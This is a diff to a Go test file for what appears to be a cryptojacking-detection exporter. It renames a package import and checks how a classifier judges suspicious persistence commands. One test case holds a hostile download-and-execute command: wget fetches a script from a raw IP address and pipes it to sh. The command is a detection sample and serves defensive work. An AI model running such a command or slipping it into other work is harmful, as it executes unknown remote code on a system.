@@ -4,7 +4,7 @@ import (
 	"strings"
 	"testing"
 
-	"github.com/cryptojack-exporter/cryptojack_exporter/internal/host"
+	"github.com/cryptojack-exporter/cryptojack_exporter/internal/model"
 )
 
 func testContext() context {
@@ -14,16 +14,16 @@ func testContext() context {
 func TestJudge(t *testing.T) {
 	t.Parallel()
 	const (
-		fetch   = host.PersistenceFetchAndRun
-		decode  = host.PersistenceDecodeRun
-		temp    = host.PersistenceTempPath
-		hidden  = host.PersistenceHiddenPath
-		miner   = host.PersistenceKnownMiner
-		nothing = host.PersistenceReason("")
+		fetch   = model.PersistenceFetchAndRun
+		decode  = model.PersistenceDecodeRun
+		temp    = model.PersistenceTempPath
+		hidden  = model.PersistenceHiddenPath
+		miner   = model.PersistenceKnownMiner
+		nothing = model.PersistenceReason("")
 	)
 	for _, test := range []struct {
 		command  string
-		want     host.PersistenceReason
+		want     model.PersistenceReason
 		evidence string // "" is not checked
 	}{
 		{"wget -q -O - http://195.3.146.118/unk.sh | sh > /dev/null 2>&1", fetch, "wget -q -O - http://195.3.146.118/unk.sh | sh > /dev/null 2>&1"},
@@ -159,7 +159,7 @@ func TestJudgeIsBounded(t *testing.T) {
 		"functions":     strings.Repeat("f(){ ", 4000),
 	} {
 		judge(text, testContext())
-		if v := judge(text+"\n\n/tmp/x\n", testContext()); name == "lines" && v.strongest().reason != host.PersistenceTempPath {
+		if v := judge(text+"\n\n/tmp/x\n", testContext()); name == "lines" && v.strongest().reason != model.PersistenceTempPath {
 			t.Errorf("%s hide what follows", name)
 		}
 	}
